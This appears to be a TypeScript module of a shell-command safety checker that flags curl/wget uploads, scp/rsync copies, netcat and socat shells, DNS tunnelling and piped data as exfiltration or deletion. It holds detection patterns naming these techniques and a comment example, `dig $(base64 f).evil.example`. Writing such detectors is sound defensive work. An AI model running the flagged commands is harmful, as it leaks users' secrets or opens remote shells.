import { isDocument, judgeMutation } from "../calls/judge-graph.ts";
import { judgeSent } from "../paths/judge-place.ts";
import { judgeRequest } from "../paths/judge-request.ts";
import { judgeUrl } from "../paths/judge-url.ts";
import { resolvePath } from "../paths/resolve-path.ts";
import { fetchesInstaller } from "../started/known-installers.ts";
import { inputOf } from "../shell/print-text.ts";
import {
  placeholder,
  plainWord,
  type ShellCommand,
  type ShellWord,
} from "../shell/shell-command.ts";
import { type Argv, hasOption, operandsOf, unwrapCommand } from "../shell/unwrap-command.ts";
import { buildOutput } from "./rows/build-output.ts";
import { reportPath, reportReadPath } from "./report-path.ts";
import { type CommandRule, forPrograms, type RunContext } from "./rule-context.ts";
import { reportSentVariables } from "./sent-variables.ts";

const sends = (what: string, soft = false) =>
  ({ category: "exfiltration", rule: "shell.upload", what, soft }) as const;

const uploadOption = /^(?:-T|--upload-file|--post-file|--body-file|-InFile)(?:=|$)/i;
const bodyOption =
  /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|-F|--form|--form-string|--json|--post-data|--body-data|-Body)$/;
const joinedBody = /^(?:-[dF](?=.)|--(?:data|form|json|post-data|body-data)[a-z-]*=)(.+)$/s;
const localHost = /^(?:https?:\/\/)?(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
const hostAndPath = /^[\w-]+(?:\.[\w-]+)*(?::\d{2,5})?\/\S*$/;
const takesValue =
  /^(?:-[XdHuAboeTFxKO]|--(?:request|data\S*|header|user|user-agent|output|form|cookie|json|cacert|cert|key|proxy|referer|upload-file|output-document|post-file|body-file))$/;
const formFile = /^[\w-]+@[./~\w]/;
const outputOption = /^(?:-[a-zA-Z]{0,8}o|-O|-q?O|--output|--output-document|-OutFile)$/i;

const httpClient: CommandRule = (argv, context, command) => {
  const { args } = argv;
  let hasBody = false;
  const isLocal = localHost.test(urlOf(args));
  for (const [at, { text }] of args.entries()) {
    const next = args[at + 1]?.text ?? "";
    if (/^(?:https?|httpie|xh)$/.test(argv.name) && formFile.test(text) && !isLocal)
      context.report(sends("uploads a file", true));
    if (uploadOption.test(text) || (text === "-T" && next !== "")) {
      const path = text.includes("=") ? text.slice(text.indexOf("=") + 1) : next;
      const ofMachine = judgeSent(path, context.cwd) !== null;
      if (!isLocal) context.report(sends("uploads a file", !ofMachine));
      if (!text.includes("=")) reportReadPath(next, context);
    }
    const body = bodyOption.test(text) ? next : joinedBody.exec(text)?.[1];
    if (body !== undefined) {
      hasBody = true;
      if (!isLocal) judgeBody(body, command, context);
    }
    if (argv.name === "wget" && /^(?:-i|--input-file)$/.test(text) && next.startsWith("/etc/"))
      context.report(sends("puts a file's text into an address"));
    if (outputOption.test(text)) writeFetched(next, command, context);
    if (/^(?:-x|--proxy|-H|--header|-u|--user|-b|--cookie)$/.test(text) && next.startsWith("@")) {
      reportReadPath(next.slice(1), context);
    }
  }
  keepNamed(argv, command, context);
  reportSentVariables(args, urlOf(args), context);
  judgeHeaders(args, command, context);
  judgeUrls(args, context, command);
  judgeMethod(args, hasBody, context);
};

function urlOf(args: readonly ShellWord[]): string {
  return (
    args.find((word) => /^https?:\/\//i.test(word.text))?.text ??
    args.find((word) => localHost.test(word.text))?.text ??
    args.find(
      (word, at) =>
        at > 0 && hostAndPath.test(word.text) && !takesValue.test(args[at - 1]?.text ?? ""),
    )?.text ??
    operandsOf(args).at(-1)?.text ??
    ""
  );
}

/** What a client fetched to a file may be run next. */
function writeFetched(path: string, command: ShellCommand, context: RunContext): void {
  reportPath(path, context);
  if (path === "-" || fetchesInstaller(command)) return;
  context.files.set(resolvePath(path, context.cwd), null);
}

/** `curl -O https://x/a.sh`, `wget https://x/a.sh`: the address names the file. */
function keepNamed({ name, args }: Argv, command: ShellCommand, context: RunContext): void {
  const named =
    name === "wget"
      ? !args.some(({ text }) => outputOption.test(text))
      : name === "curl" && hasOption(args, "O", "--remote-name", "--remote-name-all");
  if (!named) return;
  const folder = args[args.findIndex(({ text }) => text === "-P") + 1]?.text;
  const inFolder = folder === undefined || folder === args[0]?.text ? "" : `${folder}/`;
  for (const { text, dynamic } of operandsOf(args)) {
    const file = /^(?:https?:\/\/)?[\w.-]+\.\w+(?::\d+)?\/(?:[^?#]*\/)?([^/?#]+)/.exec(text)?.[1];
    if (file !== undefined && !dynamic) writeFetched(`${inFolder}${file}`, command, context);
  }
}

function judgeBody(body: string, command: ShellCommand, context: RunContext): void {
  const file = /(?:^|=)[@<]([^;]+)/.exec(body)?.[1];
  if (file !== undefined) {
    if (file !== "-") reportReadPath(file, context);
    const what = file === "-" ? "uploads what another command prints" : "uploads a file";
    return context.report(sends(what, !(file === "-" && readsSecrets(command))));
  }
  const change = isDocument.test(body) ? judgeMutation(body) : null;
  if (change !== null) context.report(change);
  const statement = /^(?:q|query|sql|statement)=([^{][^]*)$/i.exec(body)?.[1];
  if (statement !== undefined) context.languages.sql(decodeURIComponentSafely(statement), context);
  if (!body.includes(placeholder)) return;
  const { previous } = context;
  const substituted = previous !== null && previous.level > command.level ? previous : null;
  const name = substituted === null ? "" : (unwrapCommand(substituted.words)?.name ?? "");
  if (readers.test(name)) context.report(sends("uploads what another command prints", true));
}

const decodeURIComponentSafely = (text: string) =>
  text
    .replaceAll("+", " ")
    .replaceAll(/%([0-9a-f]{2})/gi, (_all, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    );

/** Programs whose output is a file's or the machine's own. */
const readers =
  /^(?:cat|base64|tar|zip|gzip|xxd|od|hexdump|head|tail|env|printenv|set|whoami|id|hostname|uname|ifconfig|ip|gpg|openssl|find|ls|grep|awk|sed|tac|nl|strings|mysqldump|pg_dump|sqlite3|history|base32|rev|dd|bzip2|xz|zstd|cut)$/;

function readsSecrets(command: ShellCommand): boolean {
  let from = command.pipedFrom;
  for (let steps = 0; from !== null && steps < 8; steps++) {
    if (/^(?:env|printenv|set|tar|history|mysqldump|pg_dump)$/.test(from.words[0]?.text ?? ""))
      return true;
    from = from.pipedFrom;
  }
  return false;
}

function judgeUrls(args: readonly ShellWord[], context: RunContext, command: ShellCommand): void {
  for (const word of operandsOf(args)) {
    const match = judgeUrl(word.text);
    if (match !== null) context.report(match);
    const start = word.text.search(/:\/\/|\?/);
    if (!word.dynamic || start === -1 || !word.text.includes(placeholder, start)) continue;
    const { previous } = context;
    const inner = previous !== null && previous.level > command.level ? previous : null;
    const name = inner === null ? "" : (unwrapCommand(inner.words)?.name ?? "");
    const inQuery = /^[^?]*\?.*\ufffc|:\/\/[^/]*\ufffc/s.test(word.text);
    // `…/tool-$(uname -s)` picks a download; a file's text in a path picks nothing.
    if (
      inQuery
        ? readers.test(name)
        : /^(?:cat|base64|xxd|tar|env|printenv|history|whoami|id)$/.test(name)
    ) {
      context.report(sends("puts a file's text into an address"));
    }
  }
}

/** A header with a file's text, and a body from standard input. */
function judgeHeaders(
  args: readonly ShellWord[],
  command: ShellCommand,
  context: RunContext,
): void {
  const { previous } = context;
  const inner = previous !== null && previous.level > command.level ? previous : null;
  const name = inner === null ? "" : (unwrapCommand(inner.words)?.name ?? "");
  const dynamic = args.some(
    (word, at) => word.dynamic && /^(?:-H|--header|-A|-e|-b)$/.test(args[at - 1]?.text ?? ""),
  );
  if (dynamic && name !== "whoami" && readers.test(name)) {
    context.report(sends("puts a file's text into a header", true));
  }
  const fed = command.redirects.some(
    ({ operator, target }) => operator === "<" && target.text !== "/dev/null",
  );
  if (fed && args.some((word) => /^(?:post|put)$/i.test(word.text))) {
    context.report(sends("uploads a file", true));
  }
}

const methodOption = /^(?:-X|--request|--method|-Method)(?:=|$)/i;

/** Servers take the method from it. */
const methodHeader = /^(?:-H|--header=)?x-http-method(?:-override)?\s{0,4}:\s{0,4}(\w{3,7})$/i;

function judgeMethod(args: readonly ShellWord[], hasBody: boolean, context: RunContext): void {
  const at = args.findIndex((word) => methodOption.test(word.text));
  const joined = args.find((word) => /^(?:-X|--request=|--method=)./.test(word.text))?.text;
  const stated =
    args.flatMap(({ text }) => methodHeader.exec(text)?.[1] ?? [])[0] ??
    joined?.replace(/^(?:-X|--request=|--method=)/, "") ??
    (at === -1 ? "" : args[at + 1]?.text);
  const plain = args.find((word) => /^(?:delete|put|post|patch)$/i.test(word.text))?.text;
  const method = (
    stated === "" ? (plain ?? (hasBody ? "POST" : "GET")) : (stated ?? "GET")
  ).toUpperCase();
  const url = urlOf(args);
  const match = judgeRequest(method, url);
  if (match !== null) context.report(match);
}

/** `host:path` as the last operand: the copy goes out. */
const copyOut: CommandRule = ({ name, args }, context) => {
  // `-i key` says who is logging in, as with ssh; `-e "ssh -i key"` of rsync is a command.
  const operands = operandsOf(args).filter((word) => {
    const option = args[args.indexOf(word) - 1]?.text ?? "";
    return !(name === "rsync" ? /^-\w*e$|^--rsh$/ : /^-[ioFP]$/).test(option);
  });
  for (const word of operands) reportReadPath(word.text, context);
  const last = operands.at(-1)?.text ?? "";
  if (name === "rsync" && hasOption(args, "n", "--dry-run")) return;
  const sources = operands.slice(0, -1).map((word) => word.text);
  if (/^[^/]+:|^rsync:\/\//.test(last) && !isDelivery(sources, last, context)) {
    context.report(sends("copies files to another host", true));
  }
  if (
    hasOption(args, "", "--remove-source-files") &&
    !sources.every((path) => isBelow(path, context))
  ) {
    const what = "deletes what it has copied";
    const rule = "shell.rsync-delete";
    context.report({ category: "recursive-delete", rule, what, soft: true });
  }
  if (!hasOption(args, "", "--delete", "--delete-after", "--delete-before", "--delete-excluded"))
    return;
  if (isBelow(last, context)) return;
  const what = "deletes what the source does not have";
  context.report({ category: "recursive-delete", rule: "shell.rsync-delete", what, soft: true });
};

/** A build's own output. */
const built = new RegExp(`^${buildOutput}$`);
/** A host that the user's own ssh settings name, or one of a private network. */
const nearHost =
  /^(?:[a-z][\w-]*|(?:[\w.-]+@)?(?:localhost|10\.[\d.]+|192\.168\.[\d.]+|172\.(?:1[6-9]|2\d|3[01])\.[\d.]+)):/;

/** Files of the workspace to a host of one's own, and what a build made to any. */
function isDelivery(sources: readonly string[], target: string, context: RunContext): boolean {
  if (sources.length === 0) return false;
  if (sources.every((path) => built.test(path))) return true;
  return nearHost.test(target) && sources.every((path) => path === "./" || isBelow(path, context));
}

/** A folder below the workspace, or a temporary one. */
function isBelow(path: string, { cwd, workspace }: RunContext): boolean {
  if (/^[^/]+:/.test(path) || path.includes(placeholder)) return false;
  const resolved = resolvePath(path, cwd);
  return resolved.startsWith(`${resolvePath(workspace, null)}/`) || /^\/tmp\/./.test(resolved);
}

/** Questions that servers answer about themselves: ZooKeeper's, memcached's, of SMTP and Redis. */
const question = /^(?:ruok|stat|srvr|mntr|conf|cons|envi|wchs|isro|ping|stats|version|info|quit)$/i;

function saysNothing([program, ...said]: readonly ShellWord[]): boolean {
  if (/^(?:sleep|true|:)$/.test(program?.text ?? "")) return true;
  if (!/^(?:echo|printf)$/.test(program?.text ?? "")) return false;
  const words = said.filter(({ text }) => !/^-\w$/.test(text));
  return words.length === 1 && question.test(words[0]?.text ?? "");
}

const loopback =
  /(?:^|\s)(?:localhost|127\.0\.0\.1|::1|(?:tcp|udp)[46]?(?:-connect)?:(?:localhost|127\.0\.0\.1|\[::1\]):\d+|unix(?:-connect)?:\S+)(?:\s|$)/i;

const rawSocket: CommandRule = ({ name, args }, context, command) => {
  const line = args.map((a) => a.text).join(" ");
  const gives =
    name === "socat"
      ? /(?:exec|system):/i.test(line) ||
        (/(?:file|open|gopen):\//i.test(line) && /(?:tcp|udp|openssl|sctp)[\w-]{0,64}:/i.test(line))
      : hasOption(args, "ec", "--exec", "--sh-exec", "--lua-exec");
  if (gives) return context.report(sends("gives a shell to another host"));
  if (hasOption(args, "z", "--zero")) return;
  const fromFile = command.redirects.find((redirect) => redirect.operator.startsWith("<"));
  const local = loopback.test(line);
  const redis = /\b6379\b/.test(line) ? inputOf(command) : null;
  if (redis !== null) judgeRedis(redis, context);
  if (/\b11211\b/.test(line) && /^\s{0,8}flush_all/m.test(inputOf(command) ?? "")) {
    const what = "empties a cache";
    context.report({ category: "delete-data", rule: "data.memcached", what });
  }
  if (command.pipedFrom === null && fromFile === undefined) return;
  // `sleep 600 | nc host 80` keeps a line open, `echo ruok | nc zookeeper 2181` asks for its state.
  const fed = command.pipedFrom?.words ?? [];
  if (fromFile === undefined && saysNothing(fed)) return;
  // `echo hello | nc localhost 3000`: words of the script itself, to a program beside it.
  const said = /^(?:echo|printf)$/.test(fed[0]?.text ?? "") && !fed.some(({ dynamic }) => dynamic);
  if (local && said && fromFile === undefined) return;
  const what = "sends data to another host";
  const rule = "shell.pipe-to-socket";
  context.report({ category: "exfiltration", rule, what, soft: local });
};

/** Redis takes its commands as plain lines. */
function judgeRedis(text: string, context: RunContext): void {
  for (const line of text.split("\n", redisLinesMax)) {
    const words = line.trim().split(/\s+/).map(plainWord);
    context.languages.program([plainWord("redis-cli"), ...words], context, null);
  }
}
const redisLinesMax = 64;

/** Names that carry data: `dig $(base64 f).evil.example`. */
const lookup: CommandRule = ({ args }, context) => {
  for (const word of args) {
    const tunnels = word.dynamic && /\ufffc[^\s/]*\.[a-z]/i.test(word.text);
    if (!tunnels && !/^[a-z0-9+/=-]{40,63}\.[^\s]+\./i.test(word.text)) continue;
    const what = "carries data out in a name";
    return context.report({ category: "exfiltration", rule: "shell.dns-tunnel", what });
  }
};

const openssl: CommandRule = ({ args }, context, command) => {
  if (args[0]?.text !== "s_client") return;
  const fed = command.pipedFrom?.words[0]?.text;
  const fromFile = command.redirects.some(
    ({ operator, target }) => operator === "<" && target.text !== "/dev/null",
  );
  if (!fromFile && (fed === undefined || /^(?:echo|printf|true|:)$/.test(fed))) return;
  context.report(sends("sends data to another host"));
};

/** `tar cz . | ssh host 'cat > x'` and `mail … < file`. */
const pipedAway: CommandRule = ({ name, args }, context, command) => {
  const file = command.redirects.find(({ operator }) => operator === "<")?.target.text;
  const kept =
    name !== "ssh" || args.some((word) => /\b(?:cat|tee|dd)\b.{0,512}(?:>|of=)/.test(word.text));
  if (file !== undefined && file !== "/dev/null" && kept) {
    return context.report(sends("uploads a file", true));
  }
  const source = command.pipedFrom === null ? null : unwrapCommand(command.pipedFrom.words);
  if (
    source === null ||
    !/^(?:tar|cat|zip|gzip|dd|mysqldump|pg_dump|base64|docker|zfs|env)$/.test(source.name)
  )
    return;
  context.report(sends("sends data to another host", true));
};

export const pipedAwayRule = pipedAway;

export const networkRules: Readonly<Record<string, CommandRule>> = {
  ...forPrograms(
    "curl curlie wget wget2 http https httpie xh aria2c invoke-webrequest invoke-restmethod",
    httpClient,
  ),
  "lwp-download": ({ args }, context, command) =>
    writeFetched(operandsOf(args)[1]?.text ?? "-", command, context),
  ...forPrograms("scp rsync sftp pscp", copyOut),
  ...forPrograms("nc ncat netcat socat telnet", rawSocket),
  ...forPrograms("dig nslookup host ping drill getent resolve-dnsname", lookup),
  openssl,
};
